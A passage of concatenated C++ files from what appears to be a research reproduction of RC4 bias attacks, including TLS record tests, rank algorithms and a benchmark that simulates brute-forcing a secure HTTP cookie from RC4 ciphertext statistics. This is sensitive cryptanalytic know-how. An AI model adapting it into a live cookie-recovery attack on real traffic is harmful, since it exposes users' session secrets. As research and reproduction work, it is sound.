  options.first_key = 512;  // a distributed slice, not a cacheable dataset
  GenerateSingleByteDataset(6, options);
  // Nothing was stored: the probe for the full-range dataset still misses.
  StoredGrid probe;
  GridMeta want = MetaForSingleByte(6, options);
  EXPECT_FALSE(GridCache(dir).TryLoad(want, &probe).ok());
}

TEST(GridCacheTest, ScenarioWarmStartMatchesColdRun) {
  const auto* scenario =
      recovery::ScenarioRegistry::Builtin().Find("singlebyte-beyond256");
  ASSERT_NE(scenario, nullptr);

  recovery::ScenarioParams params;
  params.trials = 2;
  params.workers = 2;
  params.seed = 5;
  params.model_keys = 1 << 10;
  params.samples = 1 << 8;
  params.budget = 1 << 8;
  const auto cold = scenario->Run(params);

  params.grid_cache = FreshDir("cache-scenario");
  const auto first = scenario->Run(params);   // populates the cache
  const auto warm = scenario->Run(params);    // loads the stored grid
  EXPECT_EQ(first, cold);
  EXPECT_EQ(warm, cold);
}

}  // namespace
}  // namespace rc4b::store
