// 128-bit NEON transposed-lane RC4 kernel (16 lanes per group) for aarch64,
// where Advanced SIMD is architecturally baseline — no cpuid gate needed,
// the registry lists it whenever the TU compiled in. Same transposed layout
// and lane split as the x86 kernels (kernel_lanes.h). On non-ARM targets the
// TU degrades to a stub the registry reports as not compiled in.
#include <memory>

#include "src/rc4/kernel.h"

#if defined(__aarch64__) || defined(__ARM_NEON)

#include <arm_neon.h>

#include "src/rc4/kernel_lanes.h"

namespace rc4b {
namespace {

struct Neon128 {
  static constexpr size_t kWidth = 16;
  using Reg = uint8x16_t;
  static Reg Load(const uint8_t* p) { return vld1q_u8(p); }
  static void Store(uint8_t* p, Reg v) { vst1q_u8(p, v); }
  static Reg Add8(Reg a, Reg b) { return vaddq_u8(a, b); }
  static Reg Zero() { return vdupq_n_u8(0); }
  static Reg Set1(uint8_t v) { return vdupq_n_u8(v); }
};

}  // namespace

bool NeonKernelCompiled() { return true; }

std::unique_ptr<Rc4LaneKernel> MakeNeonKernel(size_t width) {
  if (width != Neon128::kWidth) {
    return nullptr;
  }
  return std::make_unique<TransposedLaneKernel<Neon128>>();
}

}  // namespace rc4b

#else  // !ARM

namespace rc4b {

bool NeonKernelCompiled() { return false; }

std::unique_ptr<Rc4LaneKernel> MakeNeonKernel(size_t /*width*/) { return nullptr; }

}  // namespace rc4b

#endif  // ARM
