#include "src/tls/record.h"

#include <gtest/gtest.h>

#include "src/common/rng.h"

namespace rc4b {
namespace {

struct KeyPair {
  Bytes mac_key;
  Bytes rc4_key;
};

KeyPair TestKeys(uint64_t seed) {
  Xoshiro256 rng(seed);
  KeyPair keys;
  keys.mac_key.resize(HmacSha1::kDigestSize);
  keys.rc4_key.resize(16);
  rng.Fill(keys.mac_key);
  rng.Fill(keys.rc4_key);
  return keys;
}

TEST(TlsRecordTest, SealOpenRoundTrip) {
  const KeyPair keys = TestKeys(1);
  TlsWriteState writer(keys.mac_key, keys.rc4_key);
  TlsReadState reader(keys.mac_key, keys.rc4_key);
  const Bytes payload = FromString("GET / HTTP/1.1\r\n\r\n");
  const Bytes record = writer.Seal(payload);
  const auto opened = reader.Open(record);
  ASSERT_TRUE(opened.has_value());
  EXPECT_EQ(*opened, payload);
}

TEST(TlsRecordTest, HeaderLayout) {
  const KeyPair keys = TestKeys(2);
  TlsWriteState writer(keys.mac_key, keys.rc4_key);
  const Bytes payload(100, 'x');
  const Bytes record = writer.Seal(payload);
  EXPECT_EQ(record[0], kTlsApplicationData);
  EXPECT_EQ(LoadBe16(record.data() + 1), kTlsVersion12);
  EXPECT_EQ(LoadBe16(record.data() + 3), 100 + HmacSha1::kDigestSize);
  EXPECT_EQ(record.size(), kTlsRecordHeaderSize + 100 + HmacSha1::kDigestSize);
}

TEST(TlsRecordTest, MultipleRecordsShareOneRc4Stream) {
  // MAC-then-encrypt with a single stream: decrypting record 2 requires
  // having consumed record 1's keystream. Out-of-order open must fail.
  const KeyPair keys = TestKeys(3);
  TlsWriteState writer(keys.mac_key, keys.rc4_key);
  const Bytes r1 = writer.Seal(FromString("first"));
  const Bytes r2 = writer.Seal(FromString("second"));

  TlsReadState in_order(keys.mac_key, keys.rc4_key);
  ASSERT_TRUE(in_order.Open(r1).has_value());
  ASSERT_TRUE(in_order.Open(r2).has_value());

  TlsReadState out_of_order(keys.mac_key, keys.rc4_key);
  EXPECT_FALSE(out_of_order.Open(r2).has_value());
}

TEST(TlsRecordTest, SequenceNumberPreventsReplay) {
  const KeyPair keys = TestKeys(4);
  TlsWriteState writer(keys.mac_key, keys.rc4_key);
  TlsReadState reader(keys.mac_key, keys.rc4_key);
  const Bytes record = writer.Seal(FromString("once"));
  ASSERT_TRUE(reader.Open(record).has_value());
  EXPECT_FALSE(reader.Open(record).has_value());  // replayed record fails MAC
}

TEST(TlsRecordTest, TamperedCiphertextRejected) {
  const KeyPair keys = TestKeys(5);
  TlsWriteState writer(keys.mac_key, keys.rc4_key);
  TlsReadState reader(keys.mac_key, keys.rc4_key);
  Bytes record = writer.Seal(FromString("integrity"));
  record[kTlsRecordHeaderSize + 2] ^= 0x01;
  EXPECT_FALSE(reader.Open(record).has_value());
}

TEST(TlsRecordTest, TruncatedRecordRejected) {
  const KeyPair keys = TestKeys(6);
  TlsReadState reader(keys.mac_key, keys.rc4_key);
  EXPECT_FALSE(reader.Open(Bytes(3, 0)).has_value());
  EXPECT_FALSE(reader.Open(Bytes(kTlsRecordHeaderSize + 5, 0)).has_value());
}

TEST(TlsRecordTest, NoKeystreamBytesDiscarded) {
  // The paper stresses that TLS does not drop initial RC4 bytes: the first
  // ciphertext byte must equal plaintext XOR Z1.
  const KeyPair keys = TestKeys(7);
  TlsWriteState writer(keys.mac_key, keys.rc4_key);
  const Bytes payload = FromString("A");
  const Bytes record = writer.Seal(payload);

  Rc4 rc4(keys.rc4_key);
  const uint8_t z1 = rc4.Next();
  EXPECT_EQ(record[kTlsRecordHeaderSize], payload[0] ^ z1);
}

TEST(TlsRecordTest, SequenceNumberAdvances) {
  const KeyPair keys = TestKeys(8);
  TlsWriteState writer(keys.mac_key, keys.rc4_key);
  EXPECT_EQ(writer.sequence_number(), 0u);
  writer.Seal(FromString("a"));
  writer.Seal(FromString("b"));
  EXPECT_EQ(writer.sequence_number(), 2u);
}

}  // namespace
}  // namespace rc4b
