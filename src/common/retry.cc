#include "src/common/retry.h"

#include <algorithm>

namespace rc4b {

namespace {

// SplitMix64 finalizer (same mixer src/common/rng.h seeds Xoshiro with):
// full-avalanche, so consecutive (salt, attempt) pairs land anywhere in the
// jitter range.
uint64_t Mix64(uint64_t x) {
  x += 0x9e3779b97f4a7c15ULL;
  x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9ULL;
  x = (x ^ (x >> 27)) * 0x94d049bb133111ebULL;
  return x ^ (x >> 31);
}

}  // namespace

int ExitCodeForStatus(const IoStatus& status) {
  if (status.ok()) {
    return kExitOk;
  }
  return status.transient() ? kExitRetryable : kExitFatal;
}

uint64_t RetryPolicy::DelayMs(uint32_t attempt, uint64_t salt) const {
  if (attempt == 0) {
    return 0;
  }
  const uint32_t shift = std::min<uint32_t>(attempt - 1, 62);
  // base << shift, saturating at max_delay_ms (max >> shift compares without
  // overflowing where base << shift could). base == 0 disables backoff.
  uint64_t delay = max_delay_ms;
  if (base_delay_ms == 0) {
    delay = 0;
  } else if (base_delay_ms <= (max_delay_ms >> shift)) {
    delay = base_delay_ms << shift;
  }
  const uint64_t jitter_span = delay / 2 + 1;
  const uint64_t jitter =
      Mix64(jitter_seed ^ Mix64(salt) ^ (uint64_t{attempt} << 32)) % jitter_span;
  return std::min(delay + jitter, max_delay_ms);
}

}  // namespace rc4b
