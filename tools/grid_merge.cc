// Merges the shard grids of a manifest into one full-range grid file
// (docs/store.md). Every shard is fully validated first — checksums, format
// version, provenance, exact key-range tiling — so a truncated download or a
// shard from a different run is a loud error, never a silently wrong merge.
//
//   tools/grid_merge --manifest consec.manifest --out consec.grid
//       --verify-against consec-ref.grid   # optional bit-exactness check
//
// After grid_plan --extend true grows a manifest's key range, an incremental
// merge starts from the previous merged grid and opens only the new shards
// (the already-merged shard files may be long gone):
//
//   tools/grid_merge --manifest consec.manifest --out consec-v2.grid
//       --incremental-from consec.grid
#include <cstdio>
#include <string>

#include "src/common/flags.h"
#include "src/common/retry.h"
#include "src/store/merge.h"

namespace rc4b {
namespace {

int Run(int argc, char** argv) {
  FlagSet flags(
      "Validates a manifest's shard grids and merges them into one "
      "full-range grid file (docs/store.md). Exit codes "
      "(docs/orchestrate.md): 0 ok; 75 retryable (transient I/O) — rerun "
      "the same command; 1 fatal (corrupt shard, bad provenance, failed "
      "verification) — retrying cannot help.");
  flags.Define("manifest", "grid.manifest", "manifest written by grid_plan")
      .Define("out", "", "merged grid output path (required)")
      .Define("incremental-from", "",
              "previous merged grid covering a prefix of the key range; "
              "only shards past its end are opened and summed on top")
      .Define("verify-against", "",
              "optional reference grid; fail unless the merge is "
              "bit-identical to it");
  if (!flags.Parse(argc, argv)) {
    return 0;
  }

  const std::string out = flags.GetString("out");
  if (out.empty()) {
    std::fprintf(stderr, "grid_merge: --out is required\n");
    return kExitFatal;
  }

  const std::string manifest_path = flags.GetString("manifest");
  store::Manifest manifest;
  if (IoStatus status = store::ReadManifest(manifest_path, &manifest);
      !status.ok()) {
    std::fprintf(stderr, "grid_merge: %s\n", status.message().c_str());
    return ExitCodeForStatus(status);
  }

  store::MergeOptions options;
  store::StoredGrid base;
  const std::string incremental_from = flags.GetString("incremental-from");
  if (!incremental_from.empty()) {
    if (IoStatus status = store::ReadGridFile(incremental_from, &base);
        !status.ok()) {
      std::fprintf(stderr, "grid_merge: %s\n", status.message().c_str());
      return ExitCodeForStatus(status);
    }
    options.base = &base;
  }

  store::StoredGrid merged;
  store::MergeOutcome outcome;
  if (IoStatus status = store::MergeShardGridsEx(manifest, manifest_path,
                                                 options, &merged, &outcome);
      !status.ok()) {
    std::fprintf(stderr, "grid_merge: %s\n", status.message().c_str());
    return ExitCodeForStatus(status);
  }

  const std::string reference = flags.GetString("verify-against");
  if (!reference.empty()) {
    store::StoredGrid ref;
    if (IoStatus status = store::ReadGridFile(reference, &ref); !status.ok()) {
      std::fprintf(stderr, "grid_merge: %s\n", status.message().c_str());
      return ExitCodeForStatus(status);
    }
    if (IoStatus status =
            store::CheckGridsEqual(ref, merged, reference, "merge");
        !status.ok()) {
      std::fprintf(stderr, "grid_merge: verification failed: %s\n",
                   status.message().c_str());
      return kExitFatal;
    }
    std::printf("merge is bit-identical to %s\n", reference.c_str());
  }

  if (IoStatus status = store::WriteGridFile(out, merged.meta, merged.cells);
      !status.ok()) {
    std::fprintf(stderr, "grid_merge: %s\n", status.message().c_str());
    return ExitCodeForStatus(status);
  }
  std::printf("wrote %s: %s grid, %zu shards merged (%zu from base), keys "
              "[%llu, %llu), %llu samples\n",
              out.c_str(), store::GridKindName(merged.meta.kind),
              outcome.merged.size(), outcome.skipped.size(),
              static_cast<unsigned long long>(merged.meta.key_begin),
              static_cast<unsigned long long>(merged.meta.key_end),
              static_cast<unsigned long long>(merged.meta.samples));
  return kExitOk;
}

}  // namespace
}  // namespace rc4b

int main(int argc, char** argv) { return rc4b::Run(argc, argv); }
