// AES-128 block cipher and a CTR-mode keystream, implemented from FIPS-197.
//
// Role in the reproduction: the paper's dataset workers derive random RC4 keys
// from a per-worker AES key run in counter mode (Sect. 3.2). We follow the
// same construction so dataset generation is deterministic given worker seeds.
#ifndef SRC_CRYPTO_AES128_H_
#define SRC_CRYPTO_AES128_H_

#include <array>
#include <cstdint>
#include <span>

#include "src/common/bytes.h"

namespace rc4b {

class Aes128 {
 public:
  static constexpr size_t kBlockSize = 16;
  static constexpr size_t kKeySize = 16;

  explicit Aes128(std::span<const uint8_t> key);

  // Encrypts one 16-byte block (out may alias in).
  void EncryptBlock(const uint8_t in[kBlockSize], uint8_t out[kBlockSize]) const;

  // The AES S-box; exposed because the TKIP key-mixing S-box is derived from
  // it (see src/tkip/key_mixing.cc).
  static const std::array<uint8_t, 256>& SBox();

 private:
  std::array<uint32_t, 44> round_keys_;
};

// CTR-mode generator: encrypts an incrementing 128-bit big-endian counter.
class Aes128Ctr {
 public:
  explicit Aes128Ctr(std::span<const uint8_t> key) : aes_(key) {}

  // Fills `out` with keystream, continuing from the current counter.
  void Generate(std::span<uint8_t> out);

  // Repositions the counter (used to shard one worker key across chunks).
  void Seek(uint64_t block_index);

 private:
  Aes128 aes_;
  uint64_t counter_ = 0;
  std::array<uint8_t, Aes128::kBlockSize> buffer_{};
  size_t buffered_ = 0;  // valid bytes remaining at the tail of buffer_
};

}  // namespace rc4b

#endif  // SRC_CRYPTO_AES128_H_
