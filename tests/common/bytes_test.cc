#include "src/common/bytes.h"

#include <gtest/gtest.h>

namespace rc4b {
namespace {

TEST(BytesTest, HexRoundTrip) {
  const Bytes data = {0x00, 0x01, 0xab, 0xff, 0x7f};
  EXPECT_EQ(ToHex(data), "0001abff7f");
  EXPECT_EQ(FromHex("0001abff7f"), data);
}

TEST(BytesTest, HexUpperCaseAccepted) {
  EXPECT_EQ(FromHex("DEADBEEF"), FromHex("deadbeef"));
}

TEST(BytesTest, EmptyHex) {
  EXPECT_EQ(ToHex({}), "");
  EXPECT_TRUE(FromHex("").empty());
}

TEST(BytesTest, FromString) {
  const Bytes b = FromString("AB");
  ASSERT_EQ(b.size(), 2u);
  EXPECT_EQ(b[0], 'A');
  EXPECT_EQ(b[1], 'B');
}

TEST(BytesTest, XorIsSelfInverse) {
  const Bytes a = FromHex("0123456789abcdef");
  const Bytes b = FromHex("fedcba9876543210");
  EXPECT_EQ(Xor(Xor(a, b), b), a);
}

TEST(BytesTest, XorAgainstZeroIsIdentity) {
  const Bytes a = FromHex("a5a5a5");
  const Bytes zero(3, 0);
  EXPECT_EQ(Xor(a, zero), a);
}

TEST(BytesTest, Le32RoundTrip) {
  uint8_t buf[4];
  StoreLe32(0x12345678u, buf);
  EXPECT_EQ(buf[0], 0x78);
  EXPECT_EQ(buf[3], 0x12);
  EXPECT_EQ(LoadLe32(buf), 0x12345678u);
}

TEST(BytesTest, Be16RoundTrip) {
  uint8_t buf[2];
  StoreBe16(0xbeef, buf);
  EXPECT_EQ(buf[0], 0xbe);
  EXPECT_EQ(LoadBe16(buf), 0xbeef);
}

TEST(BytesTest, Be32RoundTrip) {
  uint8_t buf[4];
  StoreBe32(0xcafebabeu, buf);
  EXPECT_EQ(buf[0], 0xca);
  EXPECT_EQ(LoadBe32(buf), 0xcafebabeu);
}

TEST(BytesTest, Be64Store) {
  uint8_t buf[8];
  StoreBe64(0x0102030405060708ull, buf);
  EXPECT_EQ(buf[0], 1);
  EXPECT_EQ(buf[7], 8);
}

TEST(BytesTest, Rotations) {
  EXPECT_EQ(Rotl32(0x80000000u, 1), 1u);
  EXPECT_EQ(Rotr32(1u, 1), 0x80000000u);
  EXPECT_EQ(Rotl32(0x12345678u, 32 - 4), Rotr32(0x12345678u, 4));
  EXPECT_EQ(Rotl64(1ull, 63), 0x8000000000000000ull);
}

}  // namespace
}  // namespace rc4b
