#include "src/core/rank.h"

#include <algorithm>
#include <array>
#include <cassert>
#include <cmath>
#include <limits>

namespace rc4b {

namespace {

// Chooses the score quantum so the truth's deficit from the per-position
// maxima sits near the middle of the tracked bin range.
double ChooseQuantum(double deficit, size_t bins) {
  const double usable = static_cast<double>(bins) * 0.45;
  return std::max(deficit / usable, 1e-9);
}

}  // namespace

RankBracket IndependentRank(const SingleByteTables& tables,
                            std::span<const uint8_t> truth, size_t bins) {
  const size_t length = tables.size();
  assert(truth.size() == length);

  double best_sum = 0.0;
  double truth_sum = 0.0;
  for (size_t r = 0; r < length; ++r) {
    best_sum += *std::max_element(tables[r].begin(), tables[r].end());
    truth_sum += tables[r][truth[r]];
  }
  const double quantum = ChooseQuantum(best_sum - truth_sum, bins);

  // dist[b] = number of prefixes whose score deficit from the running best is
  // in [b * quantum, (b + 1) * quantum). Index `bins` is a sticky overflow
  // bucket for candidates too unlikely to matter. The truth's bin is computed
  // through the same per-position floor pipeline so quantization error
  // affects truth and competitors identically.
  std::vector<double> dist(bins + 1, 0.0);
  dist[0] = 1.0;
  std::vector<double> next(bins + 1, 0.0);
  size_t truth_bin = 0;
  for (size_t r = 0; r < length; ++r) {
    const double row_max = *std::max_element(tables[r].begin(), tables[r].end());
    // Per-value deficits in quanta.
    std::array<size_t, 256> offsets;
    for (size_t v = 0; v < 256; ++v) {
      const double deficit = (row_max - tables[r][v]) / quantum;
      offsets[v] = deficit >= static_cast<double>(bins)
                       ? bins
                       : static_cast<size_t>(deficit);
    }
    truth_bin = std::min(truth_bin + offsets[truth[r]], bins);
    std::fill(next.begin(), next.end(), 0.0);
    for (size_t b = 0; b <= bins; ++b) {
      if (dist[b] == 0.0) {
        continue;
      }
      if (b == bins) {
        next[bins] += dist[b] * 256.0;
        continue;
      }
      for (size_t v = 0; v < 256; ++v) {
        const size_t nb = std::min(b + offsets[v], bins);
        next[nb] += dist[b];
      }
    }
    dist.swap(next);
  }
  RankBracket bracket;
  for (size_t b = 0; b < truth_bin; ++b) {
    bracket.lower += dist[b];
  }
  bracket.upper = bracket.lower + dist[truth_bin] - 1.0;  // exclude truth itself
  bracket.upper = std::max(bracket.upper, bracket.lower);
  return bracket;
}

RankBracket MarkovRank(const DoubleByteTables& transitions, uint8_t m1,
                       uint8_t m_last, std::span<const uint8_t> truth,
                       std::span<const uint8_t> alphabet, size_t bins) {
  const size_t inner = truth.size();
  assert(transitions.size() == inner + 1);
  assert(!alphabet.empty());
  const size_t a_size = alphabet.size();

  // Truth score and an upper bound on the best path score (sum of per-
  // transition maxima over the alphabet — not necessarily attainable, which
  // only costs some bin headroom).
  double truth_sum = transitions[0][static_cast<size_t>(m1) * 256 + truth[0]];
  for (size_t t = 1; t < inner; ++t) {
    truth_sum += transitions[t][static_cast<size_t>(truth[t - 1]) * 256 + truth[t]];
  }
  truth_sum += transitions[inner][static_cast<size_t>(truth[inner - 1]) * 256 + m_last];

  double best_sum = 0.0;
  for (size_t t = 0; t <= inner; ++t) {
    double m = -std::numeric_limits<double>::infinity();
    for (size_t ui = 0; ui < a_size; ++ui) {
      const size_t u = (t == 0) ? m1 : alphabet[ui];
      for (size_t vi = 0; vi < a_size; ++vi) {
        const size_t v = (t == inner) ? m_last : alphabet[vi];
        m = std::max(m, transitions[t][u * 256 + v]);
        if (t == inner) {
          break;  // only one end value
        }
      }
      if (t == 0) {
        break;  // only one start value
      }
    }
    best_sum += m;
  }
  const double quantum = ChooseQuantum(best_sum - truth_sum, bins);

  // dist[vi][b]: number of paths ending in alphabet[vi] whose deficit from
  // the running per-transition maxima is bin b. The truth's bin accumulates
  // through the same per-transition floor pipeline as the DP.
  const size_t width = bins + 1;
  std::vector<double> dist(a_size * width, 0.0);
  std::vector<double> next(a_size * width, 0.0);
  size_t truth_bin = 0;
  const auto quantize = [&](double deficit_units) {
    return deficit_units >= static_cast<double>(bins)
               ? bins
               : static_cast<size_t>(deficit_units);
  };
  {
    double m = -std::numeric_limits<double>::infinity();
    for (size_t vi = 0; vi < a_size; ++vi) {
      m = std::max(m, transitions[0][static_cast<size_t>(m1) * 256 + alphabet[vi]]);
    }
    truth_bin = std::min(
        truth_bin +
            quantize((m - transitions[0][static_cast<size_t>(m1) * 256 + truth[0]]) /
                     quantum),
        bins);
    for (size_t vi = 0; vi < a_size; ++vi) {
      const double deficit =
          (m - transitions[0][static_cast<size_t>(m1) * 256 + alphabet[vi]]) / quantum;
      dist[vi * width + quantize(deficit)] += 1.0;
    }
  }

  for (size_t t = 1; t < inner; ++t) {
    double m = -std::numeric_limits<double>::infinity();
    for (size_t ui = 0; ui < a_size; ++ui) {
      for (size_t vi = 0; vi < a_size; ++vi) {
        m = std::max(m, transitions[t][static_cast<size_t>(alphabet[ui]) * 256 +
                                       alphabet[vi]]);
      }
    }
    truth_bin = std::min(
        truth_bin + quantize((m - transitions[t][static_cast<size_t>(truth[t - 1]) *
                                                     256 +
                                                 truth[t]]) /
                             quantum),
        bins);
    std::fill(next.begin(), next.end(), 0.0);
    for (size_t ui = 0; ui < a_size; ++ui) {
      for (size_t vi = 0; vi < a_size; ++vi) {
        const double deficit =
            (m - transitions[t][static_cast<size_t>(alphabet[ui]) * 256 +
                                alphabet[vi]]) /
            quantum;
        const size_t off = quantize(deficit);
        const double* src = dist.data() + ui * width;
        double* dst = next.data() + vi * width;
        for (size_t b = 0; b <= bins; ++b) {
          if (src[b] != 0.0) {
            dst[std::min(b + off, bins)] += src[b];
          }
        }
      }
    }
    dist.swap(next);
  }

  // Final transition into m_last.
  {
    double m = -std::numeric_limits<double>::infinity();
    for (size_t ui = 0; ui < a_size; ++ui) {
      m = std::max(m, transitions[inner][static_cast<size_t>(alphabet[ui]) * 256 +
                                         m_last]);
    }
    truth_bin = std::min(
        truth_bin +
            quantize((m - transitions[inner][static_cast<size_t>(truth[inner - 1]) *
                                                 256 +
                                             m_last]) /
                     quantum),
        bins);
    std::fill(next.begin(), next.begin() + width, 0.0);
    for (size_t ui = 0; ui < a_size; ++ui) {
      const double deficit =
          (m - transitions[inner][static_cast<size_t>(alphabet[ui]) * 256 + m_last]) /
          quantum;
      const size_t off = quantize(deficit);
      const double* src = dist.data() + ui * width;
      for (size_t b = 0; b <= bins; ++b) {
        if (src[b] != 0.0) {
          next[std::min(b + off, bins)] += src[b];
        }
      }
    }
  }
  RankBracket bracket;
  for (size_t b = 0; b < truth_bin; ++b) {
    bracket.lower += next[b];
  }
  bracket.upper = bracket.lower + next[truth_bin] - 1.0;
  bracket.upper = std::max(bracket.upper, bracket.lower);
  return bracket;
}

Bytes MarkovBest(const DoubleByteTables& transitions, uint8_t m1, uint8_t m_last,
                 size_t inner_length, std::span<const uint8_t> alphabet) {
  assert(transitions.size() == inner_length + 1);
  const size_t a_size = alphabet.size();
  std::vector<std::vector<uint32_t>> backptr(inner_length,
                                             std::vector<uint32_t>(a_size, 0));
  std::vector<double> score(a_size);
  for (size_t vi = 0; vi < a_size; ++vi) {
    score[vi] = transitions[0][static_cast<size_t>(m1) * 256 + alphabet[vi]];
  }
  std::vector<double> next_score(a_size);
  for (size_t t = 1; t < inner_length; ++t) {
    for (size_t vi = 0; vi < a_size; ++vi) {
      double best = -std::numeric_limits<double>::infinity();
      uint32_t arg = 0;
      for (size_t ui = 0; ui < a_size; ++ui) {
        const double s = score[ui] + transitions[t][static_cast<size_t>(alphabet[ui]) *
                                                        256 +
                                                    alphabet[vi]];
        if (s > best) {
          best = s;
          arg = static_cast<uint32_t>(ui);
        }
      }
      next_score[vi] = best;
      backptr[t][vi] = arg;
    }
    score.swap(next_score);
  }
  double best = -std::numeric_limits<double>::infinity();
  uint32_t arg = 0;
  for (size_t ui = 0; ui < a_size; ++ui) {
    const double s = score[ui] + transitions[inner_length]
                                     [static_cast<size_t>(alphabet[ui]) * 256 + m_last];
    if (s > best) {
      best = s;
      arg = static_cast<uint32_t>(ui);
    }
  }
  Bytes out(inner_length);
  uint32_t vi = arg;
  for (size_t t = inner_length; t-- > 0;) {
    out[t] = alphabet[vi];
    if (t > 0) {
      vi = backptr[t][vi];
    }
  }
  return out;
}

}  // namespace rc4b
