// Fig. 10 — success rate of brute-forcing a 16-character secure cookie with
// ~2^23 candidate attempts, and with only the most likely candidate, vs the
// number of captured request ciphertexts (x-axis in units of 2^27).
//
// Likelihoods combine the Fluhrer-McGrew double-byte estimate at each of the
// 17 adjacent pairs spanning m1 || cookie || mL with the multi-gap ABSAB
// differential estimates against the injected known plaintext (Sect. 6).
// Ciphertext statistics are sampled from their exact Poissonized law; the
// "rank <= 2^23" criterion is evaluated with the Markov rank DP instead of
// materializing the Algorithm 2 list.
#include <cstdio>
#include <mutex>
#include <vector>

#include "bench/harness.h"
#include "src/biases/fluhrer_mcgrew.h"
#include "src/biases/mantin.h"
#include "src/common/flags.h"
#include "src/common/rng.h"
#include "src/common/thread_pool.h"
#include "src/core/likelihood.h"
#include "src/core/rank.h"
#include "src/core/synthetic.h"
#include "src/tls/cookie_attack.h"

namespace rc4b {
namespace {

// ABSAB gap sets per pair index t (0..16): known pairs after the cookie need
// gap >= 15 - t; known pairs before need gap >= t + 1; both capped at 128.
std::vector<double> AlphasForPair(size_t t, uint64_t max_gap) {
  std::vector<double> alphas;
  for (uint64_t g = 15 - std::min<uint64_t>(t, 15); g <= max_gap; ++g) {
    alphas.push_back(AbsabAlpha(g));
  }
  for (uint64_t g = t + 1; g <= max_gap; ++g) {
    alphas.push_back(AbsabAlpha(g));
  }
  return alphas;
}

int Run(int argc, char** argv) {
  FlagSet flags("Fig. 10: cookie brute-force success vs ciphertexts x 2^27");
  flags.Define("sims", "48", "simulations per point (paper: 256)")
      .Define("max-copies", "15", "largest checkpoint in units of 2^27")
      .Define("step", "2", "checkpoint step in units of 2^27")
      .Define("attempts-log2", "23", "log2 of the brute-force budget")
      .Define("alignment", "48", "cookie keystream position mod 256")
      .Define("max-gap", "128", "largest ABSAB gap used")
      .Define("workers", "0", "worker threads")
      .Define("seed", "15", "simulation seed");
  if (!flags.Parse(argc, argv)) {
    return 0;
  }

  const int sims = static_cast<int>(flags.GetInt("sims"));
  const uint64_t max_gap = flags.GetUint("max-gap");
  const size_t alignment = flags.GetUint("alignment");
  const double budget = std::exp2(static_cast<double>(flags.GetInt("attempts-log2")));

  bench::PrintHeader(
      "bench_fig10_cookie_bruteforce",
      "Fig. 10 (16-char cookie recovery, 2^23 attempts vs 1 attempt)",
      "expected shape: with 2^23 attempts success passes ~90% around 9 x 2^27 "
      "ciphertexts; the 1-candidate curve lags far behind");

  const auto alphabet = CookieAlphabet64();
  const size_t cookie_len = 16;
  const uint8_t m1 = '=';   // byte before the cookie value
  const uint8_t m_last = ';';  // byte after (injected cookie separator)

  // Precompute per-pair FM models at the aligned keystream counters and the
  // per-pair ABSAB gap sets.
  std::vector<SparseDigraphModel> fm_models;
  std::vector<std::vector<double>> fm_tables;
  std::vector<std::vector<double>> alphas;
  for (size_t t = 0; t <= cookie_len; ++t) {
    const uint8_t i = PrgaCounterAtPosition(alignment + t);  // pair's first byte
    fm_models.push_back(FmSparseModel(i, 1 << 20));
    fm_tables.push_back(FmDigraphTable(i, 1 << 20));
    alphas.push_back(AlphasForPair(t, max_gap));
  }

  std::vector<uint64_t> checkpoints;
  for (uint64_t copies = 1; copies <= flags.GetUint("max-copies");
       copies += flags.GetUint("step")) {
    checkpoints.push_back(copies << 27);
  }

  std::printf("%-16s %16s %16s\n", "copies (x2^27)", "2^23 attempts",
              "1 attempt");
  for (uint64_t trials : checkpoints) {
    std::vector<int> wins(2, 0);
    std::mutex mutex;
    ParallelChunks(sims, static_cast<unsigned>(flags.GetUint("workers")),
                   [&](unsigned, uint64_t begin, uint64_t end) {
      for (uint64_t s = begin; s < end; ++s) {
        Xoshiro256 rng(flags.GetUint("seed") * 104729 + trials + s * 31);
        Bytes truth(cookie_len);
        for (auto& b : truth) {
          b = alphabet[rng.Below(alphabet.size())];
        }

        DoubleByteTables transitions(cookie_len + 1);
        for (size_t t = 0; t <= cookie_len; ++t) {
          const uint8_t p1 = t == 0 ? m1 : truth[t - 1];
          const uint8_t p2 = t == cookie_len ? m_last : truth[t];
          const auto counts =
              SampleCiphertextPairCounts(fm_tables[t], p1, p2, trials, rng);
          transitions[t] =
              DoubleByteLogLikelihoodSparse(counts, trials, fm_models[t]);
          const uint16_t true_pair = static_cast<uint16_t>(p1 << 8 | p2);
          const auto absab =
              SampleAbsabScoreTable(alphas[t], trials, true_pair, rng);
          CombineInPlace(transitions[t], absab);
        }

        const auto bracket =
            MarkovRank(transitions, m1, m_last, truth, alphabet);
        const Bytes best =
            MarkovBest(transitions, m1, m_last, cookie_len, alphabet);
        std::lock_guard<std::mutex> lock(mutex);
        wins[0] += bracket.estimate() < budget ? 1 : 0;
        wins[1] += best == truth ? 1 : 0;
      }
    });
    std::printf("%-16llu %15.1f%% %15.1f%%\n",
                static_cast<unsigned long long>(trials >> 27),
                100.0 * wins[0] / sims, 100.0 * wins[1] / sims);
  }
  return 0;
}

}  // namespace
}  // namespace rc4b

int main(int argc, char** argv) { return rc4b::Run(argc, argv); }
