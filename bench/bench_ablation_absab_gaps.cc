// Ablation — how much each additional ABSAB estimate buys (Sect. 4.3's
// "combining several ABSAB biases clearly results in a major improvement").
// Sweeps the number of gaps combined with the FM estimate at a fixed
// ciphertext count and reports two-byte recovery rates, plus the no-FM and
// no-ABSAB baselines.
#include <cstdio>
#include <mutex>
#include <vector>

#include "bench/harness.h"
#include "src/biases/fluhrer_mcgrew.h"
#include "src/biases/mantin.h"
#include "src/common/flags.h"
#include "src/common/rng.h"
#include "src/common/thread_pool.h"
#include "src/core/likelihood.h"
#include "src/core/synthetic.h"

namespace rc4b {
namespace {

int Run(int argc, char** argv) {
  const ScaleFlagSpec scale{.count_flag = "sims",
                            .count_default = "192",
                            .count_help = "simulations per configuration",
                            .seed_default = "21"};
  FlagSet flags("Ablation: recovery rate vs number of ABSAB estimates combined");
  DefineScaleFlags(flags, scale)
      .Define("ciphertexts-log2", "32", "log2 of the ciphertext count")
      .Define("counter", "17", "PRGA counter of the target digraph");
  if (!flags.Parse(argc, argv)) {
    return 0;
  }

  const ScaleFlagValues scale_values = GetScaleFlags(flags, scale);
  const int sims = static_cast<int>(scale_values.count);
  const uint64_t trials = uint64_t{1} << flags.GetUint("ciphertexts-log2");
  const uint8_t counter = static_cast<uint8_t>(flags.GetUint("counter"));

  bench::PrintHeader(
      "bench_ablation_absab_gaps",
      "Sect. 4.3 ablation (not a paper figure): marginal value of each "
      "additional ABSAB estimate at a fixed ciphertext count",
      "gap budget g* means gaps 0..g*-1 used on both sides (2g* estimates)");

